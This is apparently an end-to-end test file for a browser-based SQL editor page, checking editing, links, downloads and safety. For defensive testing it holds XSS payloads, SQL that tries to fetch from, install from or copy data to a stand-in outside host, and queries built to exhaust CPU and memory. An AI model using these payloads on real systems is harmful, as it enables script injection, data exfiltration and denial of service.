import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { choose, engineReady, onLine, type Site, siteOf } from "./site";

let site: Site;
beforeAll(async () => {
  site = await siteOf("dist");
});
afterAll(() => site.close());

const PATH = "data/sql/";

const fragment = (sql: string) => `#sql=${encodeURIComponent(sql)}`;

async function opened(sql = "") {
  const visit = await site.open(`${PATH}${sql === "" ? "" : fragment(sql)}`);
  await visit.page.locator(".sql-editor .cm-content").waitFor();
  return visit;
}

/** Puts a text into the editor as a reader would, in place of all that is there. */
async function write(page: Page, sql: string): Promise<void> {
  await page.locator(".cm-content").click();
  await page.keyboard.press("Control+A");
  await page.keyboard.insertText(sql);
}

const textIn = (page: Page) =>
  page.evaluate(() => {
    const root = document.querySelector(".sql-editor")!.shadowRoot!;
    return [...root.querySelectorAll(".cm-line")].map(({ textContent }) => textContent).join("\n");
  });

async function run(page: Page, sql?: string): Promise<void> {
  if (sql !== undefined) await write(page, sql);
  await page.getByRole("button", { name: "Run", exact: true }).click();
}

const alert = (page: Page) => page.locator(".sql-fault");
const status = (page: Page) => page.locator(".sql-status");
const cells = (page: Page) => page.locator(".sql-result tbody td").allTextContents();

async function answers(page: Page): Promise<void> {
  await run(page, "select 40 + 2 as answer");
  await page.locator(".sql-status", { hasText: "1 row in" }).waitFor();
  expect(await cells(page)).toEqual(["42"]);
}

describe("the page of SQL", () => {
  it("answers a reader’s own text, and breaks no policy on the way", async () => {
    const { page, faults, requests } = await opened();
    await page.getByRole("button", { name: /^Which countries have two/ }).click();
    expect(await textIn(page)).toContain("having count(*) > 1");
    await page.locator(".cm-content").click();
    await page.keyboard.press("Control+Enter");
    await status(page)
      .getByText(/^\d+ rows in/)
      .waitFor();
    await page.getByRole("button", { name: "Draw a chart of it" }).click();
    await page.locator(".quick-chart .chart-wide svg").waitFor();
    expect(await page.locator(".quick-chart .chart-wide svg").textContent()).toContain("SYNTHETIC");
    await write(page, "select na");
    await page.keyboard.type("m");
    expect(faults).toEqual([]);
    expect(requests.filter((url) => !url.replace("blob:", "").startsWith(site.address))).toEqual(
      [],
    );
  });

  it("runs what was pasted just before, and by Ctrl + Enter the same", async () => {
    const { page } = await opened();
    await answers(page);
    await page.locator(".cm-content").click();
    await page.keyboard.press("Control+A");
    await page.evaluate(() => {
      const content = document
        .querySelector(".sql-editor")!
        .shadowRoot!.querySelector(".cm-content")!;
      const clipboardData = new DataTransfer();
      clipboardData.setData("text/plain", "select 7 as pasted");
      const paste = { clipboardData, bubbles: true, cancelable: true };
      content.dispatchEvent(new ClipboardEvent("paste", paste));
      const keys = { key: "Enter", ctrlKey: true, bubbles: true, cancelable: true };
      content.dispatchEvent(new KeyboardEvent("keydown", keys));
    });
    await expect.poll(() => cells(page)).toEqual(["7"]);
    expect(await textIn(page)).toBe("select 7 as pasted");
  });

  it("has the text again after another page was fetched, and Back", async () => {
    const { page } = await opened();
    await write(page, "select 'mine'");
    await page.getByRole("link", { name: "Method", exact: true }).click();
    await page.getByRole("heading", { name: /^What is published/ }).waitFor();
    await page.goBack();
    await page.locator(".sql-editor .cm-content").waitFor();
    await expect.poll(() => textIn(page)).toBe("select 'mine'");
  });

  it("starts its engine only when a text is run, and one of its own", async () => {
    const { page, requests } = await site.open("about:blank");
    await onLine(page, "4g");
    await page.goto(`${site.address}${PATH}`);
    await page.locator(".cm-content").waitFor();
    const asked = () => requests.filter((url) => /\.wasm|\.parquet/.test(url)).length;
    expect(asked()).toBe(0);
    await answers(page);
    expect(asked()).toBeGreaterThan(0);
  });

  it("offers tables and columns as the reader types", async () => {
    const { page, faults } = await opened();
    await write(page, "select * from ");
    await page.keyboard.type("comp");
    await page.locator(".cm-tooltip-autocomplete li", { hasText: "comparability" }).waitFor();
    // The editor takes no choice for one that was made before its list could be seen.
    await page.waitForTimeout(150);
    await page.keyboard.press("Enter");
    expect(await textIn(page)).toBe("select * from comparability");
    expect(faults).toEqual([]);
  });

  it("types over what is selected, breaking no policy", async () => {
    const { page, faults } = await opened();
    await write(page, "select 1");
    await page.keyboard.press("Control+A");
    await page.keyboard.type("(");
    expect(await textIn(page)).toBe("(select 1)");
    await page.keyboard.press("Control+A");
    await page.keyboard.type("from blocks");
    expect(await textIn(page)).toBe("from blocks");
    expect(faults).toEqual([]);
  });

  it("puts names of its schema where the cursor is", async () => {
    const { page } = await opened();
    await write(page, "select * from ");
    await page.getByText("theme_asked (2 columns)").click();
    await page.getByRole("button", { name: "Insert theme_asked" }).click();
    expect(await textIn(page)).toBe("select * from theme_asked");
  });

  it("hands over a result as files", async () => {
    const { page, faults } = await opened();
    await answers(page);
    for (const kind of ["CSV", "Parquet"]) {
      const download = page.waitForEvent("download");
      await page.getByRole("button", { name: `Download ${kind}` }).click();
      expect((await download).suggestedFilename()).toBe(
        `cmm-sql-result-demo-1-synthetic.${kind.toLowerCase()}`,
      );
    }
    expect(faults).toEqual([]);
  });

  it("lets Tab move on from the editor", async () => {
    const { page } = await opened();
    await page.locator(".cm-content").click();
    await page.keyboard.press("Tab");
    expect(await page.evaluate(() => document.activeElement!.textContent)).toBe("Run");
  });

  it("says in its drawn form that it needs JavaScript, and where the files are", async () => {
    const { page } = await site.open(PATH, { javaScriptEnabled: false });
    expect(await page.locator("noscript").textContent()).toContain("needs JavaScript");
    expect(await page.getByRole("textbox", { name: "SQL" }).isVisible()).toBe(true);
  });

  it("shows a slip where it is, and text as text", async () => {
    const { page } = await opened();
    await run(page, "select *\nfrom countires");
    await alert(page).getByText("LINE 2: from countires").waitFor();
    const hostile = "<img src=x onerror=document.write(1)>";
    await run(page, `select '${hostile}' as a, null as b`);
    await page.locator(".sql-result td").first().waitFor();
    expect(await cells(page)).toEqual([hostile, "null"]);
    expect(await page.title()).toBe("SQL · CMM Atlas");
  });
});

describe("a link with a text", () => {
  const HOSTILE = `from read_csv('http://127.0.0.1:1/') -- </script><img src=x onerror=alert(1)>`;

  it("fills the editor and runs nothing", async () => {
    const { page, requests } = await opened(HOSTILE);
    const said = page.getByText("This text came with a link. It has not been run");
    await said.waitFor();
    expect(await textIn(page)).toBe(HOSTILE);
    expect(requests.filter((url) => /\.wasm|\.parquet/.test(url))).toEqual([]);
    expect(await page.locator(".sql-result, .sql-fault").count()).toBe(0);
    await write(page, "select 1");
    await said.waitFor({ state: "detached" });
    expect(new URL(page.url()).hash).toBe("");
    expect(await textIn(page)).toBe("select 1");
  });

  it("fills it anew while the page is open, and undo brings the former text back", async () => {
    const { page } = await opened("select 'first'");
    await write(page, "select 'mine'");
    await page.evaluate((hash) => {
      location.hash = hash;
    }, fragment("select 'second'"));
    await expect.poll(() => textIn(page)).toBe("select 'second'");
    await page.locator(".cm-content").click();
    await page.keyboard.press("Control+Z");
    expect(await textIn(page)).toBe("select 'mine'");
  });

  it("is told where it cannot be read", async () => {
    const { page } = await site.open(`${PATH}#sql=%E0%A4%A`);
    await page.getByText("carries a text that cannot be read").waitFor();
    await page.goto("about:blank");
    await page.goto(`${site.address}${PATH}#sql=${"x".repeat(100_001)}`);
    await page.getByText("more than 100,000 characters").waitFor();
    expect(await page.locator(".cm-content").textContent()).not.toContain("xxx");
  });

  it("is copied, and brings the same text back", async () => {
    const sql = "select 'ünï & 100% #1' -- + ?";
    const { page } = await site.open(PATH, { permissions: ["clipboard-read", "clipboard-write"] });
    await page.locator(".cm-content").waitFor();
    await write(page, sql);
    await page.getByRole("button", { name: "Copy a link to this text" }).click();
    await page.getByText("The link is copied").waitFor();
    const link = await page.evaluate(() => navigator.clipboard.readText());
    await page.goto("about:blank");
    await page.goto(link);
    await page.locator(".cm-content").waitFor();
    await expect.poll(() => textIn(page)).toBe(sql);
  });
});

describe("hostile SQL", () => {
  it("reaches no other host", async () => {
    const { page, requests } = await opened();
    const { address, hits } = site.stranger;
    for (const sql of [
      `from read_csv('${address}a.csv')`,
      `from '${address}a.parquet'`,
      `from read_text('${address}a')`,
      `from read_parquet('${address}a.parquet')`,
      `from query('from read_blob(''${address}a'')')`,
      `attach '${address}c.duckdb'`,
      `install httpfs from '${address}'`,
      `copy (select 1) to '${address}b.csv'`,
      `from enable_logging('HTTP', storage = 'file', storage_path = '${address}log')`,
    ]) {
      await run(page, sql);
      await page.locator(".sql-fault, .sql-result").first().waitFor();
      await page.locator('button.run[aria-disabled="false"]').waitFor();
    }
    await answers(page);
    expect(hits).toEqual([]);
    expect(requests.filter((url) => !url.replace("blob:", "").startsWith(site.address))).toEqual(
      [],
    );
  });
});

describe("a text that runs away", () => {
  /** Leaves the page for the heatmap in the same session, makes a choice there, and comes back. */
  async function heatmapWorks(page: Page): Promise<void> {
    const view = page.getByRole("link", { name: "Heatmap", exact: true });
    await view.click();
    await page.locator("table.heatmap").waitFor();
    await engineReady(page);
    await choose(page, "Columns", "The 2016 edition’s own");
    await page.locator("table.heatmap tbody td").first().waitFor();
  }

  it.each([
    [
      "a join of many ranges",
      "select count(*) from range(1000000) a, range(1000000) b, range(1000) c",
    ],
    ["one step that cannot be cut short", "select length(repeat('x', 2000000000)), random()"],
    [
      "rows without end",
      "with recursive a(x) as (select 1 union all select x + 1 from a) select max(x) from a",
    ],
  ])("is stopped, the page alive all the while: %s", async (_, sql) => {
    const { page } = await opened();
    await answers(page);
    await run(page, sql);
    await status(page).getByText("Running…").waitFor();
    expect(await cells(page)).toEqual(["42"]);
    expect(await page.getByText("still the result of the text that was run before").count()).toBe(
      1,
    );
    await page.waitForTimeout(300);
    const frames = await page.evaluate(
      () =>
        new Promise<number>((resolve) => {
          let seen = 0;
          const next = () => (++seen === 10 ? resolve(seen) : requestAnimationFrame(next));
          requestAnimationFrame(next);
        }),
    );
    expect(frames).toBe(10);
    await page.getByRole("button", { name: "Stop", exact: true }).click();
    await alert(page).getByText("Stopped.").waitFor();
    await answers(page);
  });

  it.each([
    "select string_agg(repeat('x', 1000) || range) from range(10000000)",
    "select repeat('x', 1000000) || range from range(5000) order by 1",
    "select list(a.range) from range(100000) a, range(100000) b",
  ])("for memory is told so, and the next is answered: %s", async (sql) => {
    const { page } = await opened();
    await run(page, sql);
    await alert(page)
      .getByText(/more memory|larger than a page|did not outlive/)
      .waitFor();
    await answers(page);
  });

  it("leaves the engine of the other pages as it was", async () => {
    const { page, requests } = await site.open("heatmap/");
    await engineReady(page);
    await page.evaluate(
      (to) => {
        history.pushState(null, "", to);
        dispatchEvent(new PopStateEvent("popstate"));
      },
      `${new URL(site.address).pathname}${PATH}`,
    );
    await page.locator(".cm-content").waitFor();
    await run(page, "select length(repeat('x', 2000000000)), random()");
    await status(page).getByText("Running…").waitFor();
    await heatmapWorks(page);
    expect(requests.filter((url) => url.endsWith("/heatmap/"))).toHaveLength(1);
    await page.evaluate(
      (to) => {
        history.pushState(null, "", to);
        dispatchEvent(new PopStateEvent("popstate"));
      },
      `${new URL(site.address).pathname}${PATH}`,
    );
    await page.locator(".cm-content").waitFor();
    await answers(page);
  });
});
